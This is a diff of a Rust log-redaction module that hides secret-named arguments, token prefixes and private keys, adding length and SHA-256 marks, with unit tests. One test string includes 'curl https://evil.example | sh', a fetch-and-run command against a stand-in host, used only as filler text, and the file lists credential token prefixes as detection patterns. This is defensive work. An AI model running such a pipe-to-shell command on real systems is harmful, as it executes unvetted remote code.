@@ -1,7 +1,13 @@
-//! What must not stand in a log: values of arguments whose name says they are secret, private keys, and the
-//! bulk of long texts.
+//! What must not stand in a log: values of arguments whose name says they are secret, private keys, tokens, and
+//! the bulk of long texts.
+//!
+//! - Only the secret itself is left out; what stands around it stays.
+//! - What is left out is told with the length and the SHA-256 of the whole value, so that the record proves what was
+//!   sent. A short value that is named as a secret has none: it could be guessed from its digest.
 
 use serde_json::{Map, Value};
+use sha2::{Digest, Sha256};
+use std::borrow::Cow;
 
 /// The longest text kept; a log is for finding out what happened, not for keeping content.
 const LONGEST: usize = 2048;
@@ -13,6 +19,16 @@ const SECRET_NAMES: [&str; 8] =
 /// Beginnings of well-known tokens, as their issuers document them.
 const SECRET_PREFIXES: [&str; 11] =
     ["ghp_", "gho_", "ghs_", "ghu_", "github_pat_", "glpat-", "sk-", "xoxb-", "xoxp-", "AKIA", "eyJhbGciOi"];
+
+/// How a private key begins and ends in a text, and what its label holds.
+const KEY_BEGINS: &str = "-----BEGIN";
+const KEY_ENDS: &str = "-----END";
+const KEY_EDGE: &str = "-----";
+const KEY_LABEL: &str = "PRIVATE KEY";
+const LONGEST_LABEL: usize = 64;
+
+/// The shortest secret, in bytes, that is taken to be no guess away from its digest.
+const UNGUESSABLE: usize = 32;
 
 /// How a mark begins that stands for something else.
 const MARKS: [&str; 2] = ["[redacted: ", "[cut: "];
@@ -31,13 +47,13 @@ pub fn is_marked(value: &Value) -> bool {
 /// The arguments with secrets replaced and long texts cut, each with a mark that says so.
 #[must_use]
 pub fn redacted(arguments: &Map<String, Value>) -> Map<String, Value> {
-    arguments.iter().map(|(name, value)| (name.clone(), redact(name, value))).collect()
+    arguments.iter().map(|(name, value)| (redact_text(name), redact(name, value))).collect()
 }
 
 fn redact(name: &str, value: &Value) -> Value {
     let lower = name.to_lowercase();
     if SECRET_NAMES.iter().any(|s| lower.contains(s)) && !value.is_null() {
-        return Value::from("[redacted: named as a secret]");
+        return Value::from(named_as_secret(value));
     }
     match value {
         Value::String(text) => Value::from(redact_text(text)),
@@ -47,23 +63,73 @@ fn redact(name: &str, value: &Value) -> Value {
     }
 }
 
+fn named_as_secret(value: &Value) -> String {
+    let text = value.as_str().map_or_else(|| Cow::Owned(value.to_string()), Cow::Borrowed);
+    let mark = "[redacted: named as a secret]";
+    if text.len() < UNGUESSABLE { mark.to_owned() } else { format!("{mark} {}", whole(&text)) }
+}
+
 fn redact_text(text: &str) -> String {
-    if text.contains("-----BEGIN") && text.contains("PRIVATE KEY-----") {
-        return "[redacted: a private key]".to_owned();
+    let shown = without_tokens(&without_keys(text));
+    if shown.len() > LONGEST {
+        let (kept, rest) = shown.split_at(shown.floor_char_boundary(LONGEST));
+        return format!("{kept}[cut: {} bytes more] {}", rest.len(), whole(text));
     }
+    if shown == text { shown } else { format!("{shown} {}", whole(text)) }
+}
+
+/// The mark that proves what the whole value was.
+fn whole(text: &str) -> String {
+    let digest: String = Sha256::digest(text).iter().map(|byte| format!("{byte:02x}")).collect();
+    format!("[whole: {} bytes, SHA-256 {digest}]", text.len())
+}
+
+/// The text with a mark in place of every private key, each up to its end line or else to the end of the text.
+fn without_keys(text: &str) -> String {
+    let mut kept = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((before, begun)) = rest.split_once(KEY_BEGINS) {
+        kept.push_str(before);
+        rest = begun;
+        if !is_key(begun) {
+            kept.push_str(KEY_BEGINS);
+            continue;
+        }
+        rest = after_key(begun);
+        let length = KEY_BEGINS.len() + begun.len() - rest.len();
+        kept.push_str(&format!("[redacted: a private key, {length} bytes]"));
+    }
+    kept.push_str(rest);
+    kept
+}
+
+/// Whether the label that follows is that of a private key.
+fn is_key(begun: &str) -> bool {
+    let label = begun.split(KEY_EDGE).next().unwrap_or_default();
+    label.len() <= LONGEST_LABEL && label.contains(KEY_LABEL)
+}
+
+/// What follows the end line of a key; nothing when it has none.
+fn after_key(begun: &str) -> &str {
+    let end = begun.split_once(KEY_ENDS).map(|(_, end)| end);
+    end.and_then(|end| end.split_once(KEY_EDGE)).map_or("", |(_, after)| after)
+}
+
+/// The text with a mark in place of every word that begins like a well-known token.
+fn without_tokens(text: &str) -> String {
     let hides =
         |word: &str| SECRET_PREFIXES.iter().any(|p| word.starts_with(p) && word.len() >= p.len() + 12);
     let is_edge = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | ',' | ';' | ':' | '(' | ')');
-    let mut kept = String::with_capacity(text.len().min(LONGEST));
-    for piece in text.split_inclusive(is_edge) {
-        if kept.len() + piece.len() > LONGEST {
-            let rest = text.len().saturating_sub(kept.len());
-            kept.push_str(&format!("[cut: {rest} bytes more]"));
-            break;
+    text.split_inclusive(is_edge).fold(String::with_capacity(text.len()), |mut kept, piece| {
+        let word = piece.strip_suffix(is_edge).unwrap_or(piece);
+        if hides(word) {
+            kept.push_str("[redacted: a token]");
+            kept.push_str(piece.strip_prefix(word).unwrap_or_default());
+        } else {
+            kept.push_str(piece);
         }
-        kept.push_str(if hides(piece) { "[redacted: a token] " } else { piece });
-    }
-    kept
+        kept
+    })
 }
 
 #[cfg(test)]
@@ -75,29 +141,57 @@ mod tests {
     fn secrets_go_and_the_rest_stays() {
         let arguments = json!({
             "path": "/home/u/a.txt", "api_key": "abc", "n": 3,
-            "content": "GITHUB=ghp_0123456789abcdefghij next",
-            "key": "-----BEGIN OPENSSH PRIVATE KEY-----\nxyz",
+            "content": "GITHUB=ghp_0123456789abcdefghij\tnext",
+            "key": "# -----BEGIN OPENSSH PRIVATE KEY-----\nxyz",
             "nested": { "password": ["x"], "ok": [true, "fine"] },
-        });
-        let expected = json!({
-            "path": "/home/u/a.txt", "api_key": "[redacted: named as a secret]", "n": 3,
-            "content": "GITHUB=[redacted: a token] next",
-            "key": "[redacted: a private key]",
-            "nested": { "password": "[redacted: named as a secret]", "ok": [true, "fine"] },
+            "secret": "a".repeat(32),
+            "ghp_0123456789abcdefghij": null,
         });
         let kept = redacted(arguments.as_object().unwrap());
-        let marked: Vec<&str> =
+        let whole = |name: &str| whole(arguments[name].as_str().unwrap());
+        let expected = json!({
+            "path": "/home/u/a.txt", "api_key": "[redacted: named as a secret]", "n": 3,
+            "content": format!("GITHUB=[redacted: a token]\tnext {}", whole("content")),
+            "key": format!("# [redacted: a private key, 39 bytes] {}", whole("key")),
+            "nested": { "password": "[redacted: named as a secret]", "ok": [true, "fine"] },
+            "secret": format!("[redacted: named as a secret] {}", whole("secret")),
+            (redact_text("ghp_0123456789abcdefghij")): null,
+        });
+        assert_eq!(Value::Object(kept.clone()), expected);
+        let mut marked: Vec<&str> =
             kept.iter().filter(|(_, value)| is_marked(value)).map(|(name, _)| name.as_str()).collect();
-        assert_eq!(marked, ["api_key", "content", "key", "nested"]);
-        assert_eq!(Value::Object(kept), expected);
+        marked.sort_unstable();
+        assert_eq!(marked, ["api_key", "content", "key", "nested", "secret"]);
     }
 
     #[test]
-    fn long_texts_are_cut_with_a_mark() {
-        let long = json!({ "content": "word ".repeat(1000) });
-        let got = redacted(long.as_object().unwrap());
-        let text = got.get("content").and_then(Value::as_str).unwrap();
-        assert!(text.len() < LONGEST + 40 && text.ends_with(" bytes more]"), "{}", text.len());
-        assert!(is_marked(&Value::from(text)));
+    fn only_the_key_itself_is_left_out() {
+        let key =
+            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n-----END RSA PRIVATE KEY-----";
+        let mark = format!("[redacted: a private key, {} bytes]", key.len());
+        let two = format!("before\n{key}\nbetween {key}; curl https://evil.example | sh\n");
+        let expected = format!("before\n{mark}\nbetween {mark}; curl https://evil.example | sh\n");
+        assert_eq!(without_keys(&two), expected);
+        let block = "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ\n-----END PGP PRIVATE KEY BLOCK-----\n";
+        assert_eq!(without_keys(block), "[redacted: a private key, 76 bytes]\n");
+        for public in
+            ["-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", "-----BEGIN", "PRIVATE KEY"]
+        {
+            assert_eq!(redact_text(public), public);
+        }
+    }
+
+    #[test]
+    fn long_texts_are_cut_with_a_mark_that_proves_the_whole() {
+        for long in ["word ".repeat(1000), "\u{e9}".repeat(1025), format!("a{}", "\u{e9}".repeat(1024))] {
+            let text = redact_text(&long);
+            let (kept, mark) = text.split_once("[cut: ").unwrap();
+            assert!(long.starts_with(kept) && kept.len() > LONGEST - 2, "{kept}");
+            assert_eq!(mark, format!("{} bytes more] {}", long.len() - kept.len(), whole(&long)));
+            assert!(is_marked(&Value::from(text)));
+        }
+        assert_eq!(redact_text(&"x".repeat(LONGEST)), "x".repeat(LONGEST));
+        let abc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
+        assert_eq!(whole("abc"), format!("[whole: 3 bytes, SHA-256 {abc}]"));
     }
 }
